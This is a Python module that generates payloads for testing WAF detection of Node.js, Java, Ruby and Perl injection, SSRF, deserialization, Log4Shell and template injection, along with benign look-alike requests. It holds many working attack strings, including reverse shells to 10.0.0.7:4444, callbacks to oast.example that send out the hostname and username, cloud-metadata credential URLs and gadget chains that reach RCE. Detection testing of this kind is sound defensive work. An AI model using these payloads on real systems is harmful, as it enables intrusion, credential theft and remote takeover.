"""Blind positive tests for the generic (934), Java (944) and server-side template injection titles, written the way
automated scanners and exploitation tools emit their active checks, with benign requests that carry the same words.

Angle: a fifteenth author of the same titles, writing what scanners send. Every detection title gets one kebab-case
sub-family and 12 to 14 payloads: the canonical attack the title names, then one payload per alternative of its
family (module, class, method, gadget, wrapper, address form, engine syntax), in the shapes DAST scanners and
exploitation tools build them: out-of-band callbacks to a collaborator-style host (*.oast.example), time delays
(sleep, ping -c, Thread.sleep), arithmetic canaries for template engines ({{7*7}}, ${7*7}, #{7*7}, <%= 7*7 %>),
context-breaking prefixes (quote-and-plus, semicolon, template closers), obfuscated lookups and encoded blobs.

Families and sub-families:
- generic: node-js-injection (CRS 3.3.4 934100), node-js-injection-1-2 and node-js-injection-2-2 (4.x),
  ssrf-cloud-metadata, ssrf-ip-address-url, prototype-pollution, ruby-injection, perl-injection, node-js-dos,
  php-data-scheme.
- java: java-rce-suspicious-class (944100), java-process-spawn (944110), java-serialization-rce (944120),
  java-suspicious-class (944130), java-serialization-magic-bytes (944200), java-serialization-magic-bytes-base64
  (944210), java-serialization-rce-pl2 (944240), java-suspicious-method-rce (944250), and from 4.x java-log4shell,
  java-class-loading, java-script-file-upload, java-suspicious-method.
- ssti: ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf, ssti-erb, ssti-smarty,
  ssti-handlebars, ssti-pug.

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
admin search form (with csrf_token), a JSON body of /api/users, a cookie, the User-Agent, the Referer, a custom
header, a parameter name, an XML body, a multipart field or filename and the URL path. Once the way a WAF's
regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names, as a query string, a form body,
a JSON body, an XML body, a raw form-typed body that is not key=value, the User-Agent, the Referer, a custom header
or a cookie. Shapes that only exist in one kind of place go only there: raw serialization bytes (percent-encoded,
latin-1) go to URL-encoded places, query-string pollution and class-loader bindings go as raw name=value pairs,
JSON documents as whole bodies, XStream / XMLDecoder documents as whole XML bodies, JSP uploads as multipart
filenames.

Benign: Slack messages and bios of developers and operators talking about the same modules, classes, methods,
template syntax, cloud metadata, Ruby and Perl one-liners; public documentation links; prose typed into the admin
search; searches, names and addresses that share the words.

Authorship and independence: written for this repository from general knowledge of how scanners and exploitation
tools build their payloads and from the detection titles alone; no ruleset, rule regression test, WAF rule of this
repository or public payload list was read. Measured once, on unchanged code; the payloads were not changed after
the measurement. Deterministic: no clock, no randomness; the base64 and gzip blobs are computed from fixed bytes.
"""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredfourteenth"
OAST = "oast.example"

# ---------------------------------------------------------------------------------------------------------------
# generic: Node.js
# ---------------------------------------------------------------------------------------------------------------

NODE_934100 = [
    f"require('child_process').exec('nslookup n1.{OAST}')",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "';require('child_process').execSync('sleep 5');//",
    "\"+process.mainModule.require('child_process').exec('ping -c 5 127.0.0.1')+\"",
    f"_$$ND_FUNC$$_function(){{require('child_process').exec('curl http://nser.{OAST}/')}}()",
    "{\"rce\":\"_$$ND_FUNC$$_function (){require(\\\"child_process\\\").exec(\\\"id\\\")}()\"}",
    "eval(\"require('child_process').execSync('id').toString()\")",
    "1;var cp=require(\"child_process\");cp.spawnSync(\"sleep\",[\"10\"])",
    "global.process.mainModule.constructor._load(\"child_process\").execSync(\"id\")",
    "this.constructor.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"whoami\")",
    "response.end(require('child_process').execSync('cat /etc/passwd'))",
    "res.end(require('fs').readdirSync('.').toString())",
    "require('fs').writeFileSync('/tmp/nodescan.txt','nodescan')",
]

NODE_1_2 = [
    "require(\"child_process\").execFile(\"/bin/sh\",[\"-c\",\"id\"])",
    "require('child_process').fork('/tmp/x.js')",
    "require (\"child_process\") .spawn (\"nc\",[\"-e\",\"/bin/sh\",\"10.0.0.7\",\"4444\"])",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[]})",
    "require('net').connect(4444,'10.0.0.7',function(){this.pipe(require('child_process').spawn('/bin/sh').stdin)})",
    "require('fs').readFileSync('/proc/self/environ','utf8')",
    "require(\"fs\").readdirSync(\"/\").join()",
    f"require('http').get('http://n2.{OAST}/'+require('os').hostname())",
    f"require('dns').lookup(require('os').userInfo().username+'.n3.{OAST}',()=>{{}})",
    "import('child_process').then(m=>m.execSync('id'))",
    "module.require('child_process').execSync('sleep 7')",
    "require('vm').runInThisContext(\"process.mainModule.require('child_process').execSync('id')\")",
    "`${require('child_process').execSync('id')}`",
    "require('child_process')['exec']('timeout /t 6')",
]


def _fromcharcode(text: str) -> str:
    return "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in text) + "))"


NODE_2_2 = [
    "this.constructor.constructor('return this.process')().env",
    "[].constructor.constructor(\"return process.mainModule\")().require(\"child_process\")",
    "''.constructor.constructor('return process')().exit()",
    "Function(\"return process\")().mainModule.require(\"fs\")",
    "new Function('return global.process.env')()",
    _fromcharcode("require('child_process').execSync('id')"),
    "eval(Buffer.from('" + base64.b64encode(b"require(\"child_process\").execSync(\"id\")").decode()
    + "','base64').toString())",
    "global['pro'+'cess']['main'+'Module']['req'+'uire']('child_'+'process')",
    "process['mainModule']['require']('child_process')['execSync']('id')",
    "Reflect.get(process,'mainModule').require('child_process')",
    "setInterval(\"require('child_process').exec('id')\",1000)",
    "(async()=>{}).constructor(\"return process\")()",
    "globalThis.process.dlopen(module,'/tmp/x.node')",
]

NODE_DOS = [
    "while(true){}",
    "while (1) {}",
    "for(;;){}",
    "do{}while(true)",
    "process.exit()",
    "process.kill(process.pid,'SIGKILL')",
    "process.abort()",
    "Array(1e9).fill(0)",
    "'a'.repeat(2**30)",
    "new Array(4294967295).join('x')",
    "JSON.parse('['.repeat(100000))",
    "while(!![]){}",
    "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
]

# ---------------------------------------------------------------------------------------------------------------
# generic: SSRF, prototype pollution, Ruby, Perl, data: scheme
# ---------------------------------------------------------------------------------------------------------------

SSRF_METADATA = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1beta1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/v1/",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://metadata/computeMetadata/v1/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
]

SSRF_IP = [
    "http://127.0.0.1:22/",
    "http://10.0.0.1/admin",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://0177.0.0.01/",
    "http://0x7f.0x00.0x00.0x01/",
    "http://127.1/",
    "http://[::1]:8080/",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "https://192.168.0.1:8443/",
    "http://3232235521/",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://10.0.0.5:11211/stats",
]

PROTO_POLLUTION = [
    "__proto__[polluted]=true",
    "__proto__.polluted=1",
    "constructor[prototype][polluted]=1",
    "constructor.prototype.polluted=1",
    "a[__proto__][b]=c",
    "x[constructor][prototype][y]=z",
    "__proto__[json spaces]=10",
    "{\"__proto__\":{\"polluted\":\"yes\"}}",
    "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}",
    "{\"a\":{\"__proto__\":{\"toString\":\"x\"}}}",
    "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id')"
    ".toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}",
    "{\"__proto__\":{\"outputFunctionName\":\"_tmp1;global.process.mainModule.require('child_process')"
    ".execSync('sleep 5');var __tmp2\"}}",
    "{\"__proto__\":{\"status\":510}}",
    "{\"__proto__\":{\"exposedHeaders\":[\"ppscan\"]}}",
]

RUBY = [
    "\"#{`sleep 5`}\"",
    "Kernel.exec(\"id\")",
    "Kernel.system(\"sleep 7\")",
    "%x(id)",
    "IO.popen(\"id\").read",
    "Open3.capture2(\"id\")",
    "eval(\"`id`\")",
    "send(:system, \"id\")",
    "Object.const_get(:Kernel).public_send(:system, \"id\")",
    "File.read(\"/etc/passwd\")",
    f"open(\"|nslookup rb.{OAST}\").read",
    "Marshal.load(Base64.decode64(params[:data]))",
    "--- !ruby/object:Gem::Installer\n    i: x\n--- !ruby/object:Gem::Requirement\n"
    "  requirements: !ruby/object:Gem::Package::TarReader",
    "User.class_eval(\"def x; `id`; end\")",
]

PERL = [
    "@{[system \"id\"]}",
    "${\\(`sleep 5`)}",
    "qx{id}",
    "qx(sleep 5)",
    "exec('/bin/sh')",
    "system('ping -c 6 127.0.0.1')",
    "open(F,\"|id\")",
    "open(my $f, \"cat /etc/passwd|\")",
    "eval(\"print `id`\")",
    "use IO::Socket; $s=IO::Socket::INET->new(\"10.0.0.7:4444\")",
    "require POSIX; POSIX::system(\"id\")",
    "do \"/tmp/x.pl\"",
    "s/x/system(\"id\")/e",
    ";print+qq{PERLSCAN};",
]

_PHPINFO_B64 = base64.b64encode(b"<?php phpinfo(); ?>").decode()
_SYSTEM_B64 = base64.b64encode(b"<?php system($_GET['cmd']); ?>").decode()
DATA_SCHEME = [
    f"data://text/plain;base64,{_PHPINFO_B64}",
    "data://text/plain,<?php system('id'); ?>",
    "data:text/plain,<?php echo md5('lfiscan'); ?>",
    f"data:;base64,{_SYSTEM_B64}",
    f"DATA://text/plain;base64,{_PHPINFO_B64}",
    f"data://application/x-httpd-php;base64,{_SYSTEM_B64}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data://text/plain;charset=utf-8;base64,{_PHPINFO_B64}",
    f"data://image/jpeg;base64,{_SYSTEM_B64}",
    "data:,<?=`id`?>",
    "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
    f"php://filter/resource=data://text/plain;base64,{_PHPINFO_B64}",
    "data:text/plain,<?php sleep(7); ?>",
]

# ---------------------------------------------------------------------------------------------------------------
# java
# ---------------------------------------------------------------------------------------------------------------

JAVA_944100 = [
    f"java.lang.Runtime.getRuntime().exec(\"nslookup j1.{OAST}\")",
    "@java.lang.Runtime@getRuntime().exec('sleep 9')",
    "${@java.lang.Runtime@getRuntime().exec(\"id\")}",
    f"T(java.lang.Runtime).getRuntime().exec(\"curl http://spel.{OAST}\")",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    "${T(java.lang.Thread).sleep(10000)}",
    "T(java.lang.System).getProperty('user.dir')",
    "new java.io.FileOutputStream('/tmp/scan.jsp').write('scan'.getBytes())",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval("
    "\"java.lang.Runtime.getRuntime().exec('id')\")",
    f"new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL(\"http://jar.{OAST}/a.jar\")}})",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "%{(#cmd='id').(#p=new java.lang.ProcessBuilder({'bash','-c',#cmd})).(#p.redirectErrorStream(true))"
    ".(#process=#p.start())}",
    "java.lang.UNIXProcess",
]

_XSTREAM_9805 = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>"
    "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler>"
    "<dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\">"
    "<is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
    "<initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi.FilterIterator\">"
    "<iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/>"
    "<next class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/s2-052</string></command>"
    "<redirectErrorStream>false</redirectErrorStream></next></iter>"
    "<filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class>"
    "<name>start</name><parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next>"
    "</serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer/>"
    "<done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed>"
    "</dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString>"
    "</entry></map>"
)

JAVA_944110 = [
    _XSTREAM_9805,
    "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
    "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
    "<string>calc.exe</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
    "<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
    "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void>"
    "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>sleep 8</string></void></array>"
    "<void method=\"start\"/></object></java>",
    "<void class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string></void></void>",
    "new java.lang.ProcessBuilder(\"bash\",\"-c\",\"sleep 10\").start()",
    "java.lang.Runtime.getRuntime().exec(new String[]{\"cmd.exe\",\"/c\",\"ping -n 10 127.0.0.1\"})",
    f"(new java.lang.ProcessBuilder(new java.lang.String[]{{\"ping\",\"-c\",\"5\",\"p.{OAST}\"}})).start()",
    f"<next class=\"java.lang.ProcessBuilder\"><command><string>nslookup</string><string>xs.{OAST}</string>"
    "</command><redirectErrorStream>false</redirectErrorStream></next>",
    "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource "
    "class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"java.lang.ProcessBuilder"
    "$NullInputStream\"/></dataSource></dataHandler></value>",
    "Runtime.getRuntime().exec(\"touch /tmp/cve-2017-9805\")",
    "{\"@type\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}",
    "java.lang.ProcessBuilder pb = new java.lang.ProcessBuilder(\"id\"); pb.start();",
]

JAVA_944120 = [
    "<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>exec</iMethodName><iParamTypes>"
    "<java-class>java.lang.String</java-class></iParamTypes><iArgs><string>id</string></iArgs>"
    "</org.apache.commons.collections.functors.InvokerTransformer>",
    "org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime getRuntime exec",
    "org.apache.commons.collections.functors.ChainedTransformer(new Transformer[]{new ConstantTransformer("
    "Runtime.class),new InvokerTransformer(\"getMethod\",new Class[]{String.class,Class[].class},"
    "new Object[]{\"getRuntime\",new Class[0]})})",
    "org.apache.commons.collections4.functors.InstantiateTransformer "
    "com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter java.lang.Runtime",
    "org.apache.commons.collections.functors.CloneTransformer java.lang.ProcessBuilder start",
    "org.apache.commons.collections.functors.ForClosure java.lang.Runtime exec",
    "org.apache.commons.collections.functors.WhileClosure java.lang.Runtime exec",
    "org.apache.commons.collections.functors.InstantiateFactory java.lang.ProcessBuilder",
    "org.apache.commons.collections.functors.PrototypeCloneFactory java.lang.Runtime",
    "org.apache.commons.collections.functors.PrototypeSerializationFactory java.lang.Runtime",
    "<java class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\">"
    "<void method=\"exec\"><string>id</string></void></object></java>",
    "java.io.FileWriter getProperty java.lang.Runtime.getRuntime().exec(\"id\")",
    "org.codehaus.groovy.runtime.MethodClosure execute java.lang.Runtime",
]

JAVA_944130 = [
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#w=@org.apache.struts2.ServletActionContext"
    "@getResponse().getWriter()).(#w.print('struts2_security_check')).(#w.close())}",
    "${#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Scan',9731*1337)}",
    "new java.io.BufferedReader(new java.io.InputStreamReader(p.getInputStream())).readLine()",
    "new java.io.File(\"/etc/passwd\").exists()",
    "new java.io.FileWriter(\"/var/www/html/scan.jsp\")",
    "new java.io.ObjectOutputStream(new java.io.ByteArrayOutputStream())",
    "new java.io.PrintStream(response.getOutputStream()).println(1337*1337)",
    "java.lang.Class.forName(\"java.lang.Runtime\")",
    "java.lang.String.valueOf(7*191)",
    "javax.script.ScriptEngineManager",
    "org.apache.commons.io.FileUtils.readFileToString(new java.io.File(\"/etc/passwd\"))",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "(#sb=new java.lang.StringBuilder()).(#sb.append('ognlscan'))",
    "@java.lang.System@getProperty(\"user.dir\")",
]

MAGIC = b"\xac\xed\x00\x05"
STREAMS = [
    MAGIC + b"t\x00\x04test",
    MAGIC + b"sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthreshold"
    b"xp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01",
    MAGIC + b"sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparator"
    b"t\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00Borg.apache.commons.collections4.comparators."
    b"TransformingComparator",
    MAGIC + b"sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00"
    b"\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xps}\x00\x00\x00\x01\x00"
    b"\rjava.util.Mapxr\x00\x17java.lang.reflect.Proxy",
    MAGIC + b"sr\x00\x0cjava.net.URL\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCodeI\x00\x04portL\x00\tauthority"
    b"t\x00\x12Ljava/lang/String;xp\xff\xff\xff\xff\xff\xff\xff\xfft\x00\x12urldns.oast.example",
    MAGIC + b"sr\x00.javax.management.BadAttributeValueExpException\xd4\xe7\xda\xab\x8d\x8d\x13\x8c\x02\x00\x01L\x00"
    b"\x03valt\x00\x12Ljava/lang/Object;",
    MAGIC + b"ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x02",
    MAGIC + b"p",
    MAGIC + b"w\x04\x00\x00\x00\x01",
    MAGIC + b"sr\x00\x11java.lang.Integer\x12\xe2\xa0\xa4\xf7\x81\x878\x02\x00\x01I\x00\x05value",
    MAGIC + b"sr\x00\x17java.util.LinkedHashSet\xd8l\xd7Z\x95\xdd*\x1e\x02\x00\x00xr\x00\x11java.util.HashSet"
    b"\xbaD\x85\x95\x96\xb8\xb74\x03\x00\x00xpw\x0c\x00\x00\x00\x10?@\x00\x00\x00\x00\x00\x02sr\x00:"
    b"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    MAGIC + b"sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparator"
    b"t\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator",
]
# raw bytes as a latin-1 string (sent percent-encoded byte for byte)
JAVA_944200 = [s.decode("latin-1") for s in STREAMS]


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


JAVA_944210 = [
    *(_b64(s) for s in STREAMS[:8]),
    _b64(b"\x00" + STREAMS[1]),            # magic at offset 1 of the blob
    _b64(b"\x00\x00" + STREAMS[3]),        # magic at offset 2
    base64.urlsafe_b64encode(STREAMS[10]).decode(),
    _b64(gzip.compress(STREAMS[2], mtime=0)),   # JSF ViewState style: gzip then base64
    "javax.faces.ViewState=" + _b64(STREAMS[5]),
]

JAVA_944240 = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.ChainedTransformer",
    "{\"@class\":\"org.apache.commons.collections.map.LazyMap\",\"factory\":"
    "{\"@class\":\"org.apache.commons.collections.functors.ConstantTransformer\"}}",
    "org.apache.commons.collections.keyvalue.TiedMapEntry",
    "sun.reflect.annotation.AnnotationInvocationHandler",
    "{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\"yv66vgAAADQA\"],"
    "\"_name\":\"a\",\"_tfactory\":{},\"_outputProperties\":{}}",
    "[\"org.apache.commons.beanutils.BeanComparator\",{\"property\":\"outputProperties\"}]",
    "{\"@type\":\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",\"userOverridesAsString\":"
    "\"HexAsciiSerializedMap:aced0005737200;\"}",
    "org.hibernate.engine.spi.TypedValue",
    "<org.mozilla.javascript.NativeJavaObject><javaObject class=\"java.lang.ProcessBuilder\"/>"
    "</org.mozilla.javascript.NativeJavaObject>",
    f"{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://jdbc.{OAST}:1099/Exploit\","
    "\"autoCommit\":true}",
    "java.util.PriorityQueue org.apache.commons.collections4.comparators.TransformingComparator",
    "<bsh.XThis><namespace><methods><entry><string>compare</string><bsh.BshMethod/></entry></methods>"
    "</namespace></bsh.XThis>",
    "ysoserial.Pwner",
]

JAVA_944250 = [
    "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "#{session.getClass().getClassLoader()}",
    "${pageContext.request.getClass().getClassLoader().loadClass(\"java.lang.Runtime\")}",
    "x.getClass().getDeclaredMethod(\"exec\", String.class).setAccessible(true)",
    "Class.forName(\"java.lang.Runtime\").newInstance()",
    "getRuntime().exec(\"ping -c 10 127.0.0.1\")",
    "ClassLoader.getSystemClassLoader().defineClass(\"Evil\",b,0,b.length)",
    ".getMethod(\"getRuntime\").invoke(null)",
    "Thread.currentThread().getContextClassLoader().loadClass(\"javax.script.ScriptEngineManager\").newInstance()",
    "java.lang.Runtime.getRuntime().exec(\"cmd /c timeout 10\")",
    "${facesContext.getExternalContext().getResponse().getWriter().println(\"elscan\")}",
    "new java.io.ObjectInputStream(request.getInputStream()).readObject()",
    "Method m=Runtime.class.getMethod(\"exec\",String.class);m.invoke(Runtime.getRuntime(),\"id\")",
]

LOG4SHELL = [
    f"${{jndi:ldap://l1.{OAST}/a}}",
    f"${{jndi:dns://${{hostName}}.l2.{OAST}}}",
    "${jndi:rmi://203.0.113.50:1099/Exploit}",
    f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://l3.{OAST}/a}}",
    f"${{${{lower:jndi}}:${{lower:rmi}}://l4.{OAST}/b}}",
    f"${{${{upper:j}}${{upper:n}}${{upper:d}}${{upper:i}}:ldap://l5.{OAST}/c}}",
    f"${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//l6.{OAST}/d}}",
    f"${{jndi:ldap://${{env:USER}}.l7.{OAST}/e}}",
    f"${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://l8.{OAST}/f}}",
    f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://l9.{OAST}/g}}",
    f"${{jndi:ldaps://l10.{OAST}/h}}",
    f"${{jndi:iiop://l11.{OAST}/i}}",
    f"$%7Bjndi:ldap://l12.{OAST}/j%7D",
    f"${{${{sys:sun.cpu.isalist:-j}}ndi:ldap://l13.{OAST}/k}}",
]

CLASS_LOADING = [
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals(request"
    ".getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\"))"
    ".getInputStream(); }%{suffix}i",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar",
    "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
    "class.module.classLoader.DefaultAssertionStatus=nonsense",
    "class.classLoader.resources.dirContext.docBase=/",
    "class['classLoader']['resources']['dirContext']['docBase']=/",
    f"class.module.classLoader.URLs[0]=jar:http://cl.{OAST}/x.jar!/",
    "Class.classLoader.jarPath=../scan",
    "Thread.currentThread().getContextClassLoader().loadClass(\"Evil\").newInstance()",
    f"new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL(\"http://cl2.{OAST}/\")}})"
    ".loadClass(\"Exploit\")",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Evil',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('yv66vgAAADQA'),T(java.lang.Thread).currentThread().getContextClassLoader())",
]

JSP_UPLOADS = [
    "shell.jsp",
    "cmd.jspx",
    "scan.JSP",
    "upload.jspf",
    "x.jsp;.jpg",
    "a.jsp%00.png",
    "b.jsp.",
    "c.jsp::$DATA",
    "..%2f..%2fwebapps%2fROOT%2fd.jsp",
    "e.Jspx",
    "f.jsp ",
    "index.jsp",
]
JSP_BODY = "<% out.println(\"upload-scan-\" + (1337 * 7)); %>"

JAVA_METHOD = [
    "\"id\".execute().text",
    "def proc = \"cat /etc/passwd\".execute(); println proc.in.text",
    f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://yaml.{OAST}/\"]]]]",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"sleep 10\"}).waitFor()",
    "System.getenv()",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "Runtime.getRuntime().exec(\"id\");",
    "Thread.sleep(10000)",
    "new java.io.ObjectInputStream(in).readUnshared()",
    "m.setAccessible(true); m.invoke(null)",
    f"new javax.naming.InitialContext().lookup(\"rmi://jn.{OAST}/obj\")",
    "new ScriptEngineManager().getEngineByExtension(\"js\").eval(\"1+1\")",
    "java.util.Base64.getDecoder().decode(s)",
]

# ---------------------------------------------------------------------------------------------------------------
# ssti
# ---------------------------------------------------------------------------------------------------------------

JINJA2 = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('sleep 5').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{url_for.__globals__.os.environ}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
    "{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "${{<%[%'\"}}%\\.",
    f"{{{{joiner.__init__.__globals__.os.popen('nslookup j2.{OAST}').read()}}}}",
    "{{namespace.__init__.__globals__.os.popen('id').read()}}",
]

TWIG = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['id']|map('system')|join}}",
    "{{['sleep 5']|filter('passthru')}}",
    "{{[0]|reduce('system','id')}}",
    "{{app.request.server.all|join(',')}}",
    "{{dump(app)}}",
    "{{_self}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{ source('/etc/passwd') }}",
    "{{['cat /etc/passwd']|sort('passthru')}}",
    "{% set a = ['id']|map('shell_exec') %}{{a|join}}",
    "{{constant('PHP_VERSION')}}",
]

FREEMARKER = [
    "${7*7}",
    "#{7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"sleep 5\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "${.version}",
    "<#list .data_model?keys as k>${k}</#list>",
    "${\"7*7\"?eval}",
    "<#include \"/etc/passwd\">",
    f"${{\"freemarker.template.utility.Execute\"?new()(\"nslookup fm.{OAST}\")}}",
]

VELOCITY = [
    "#set($x=7*7)${x}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
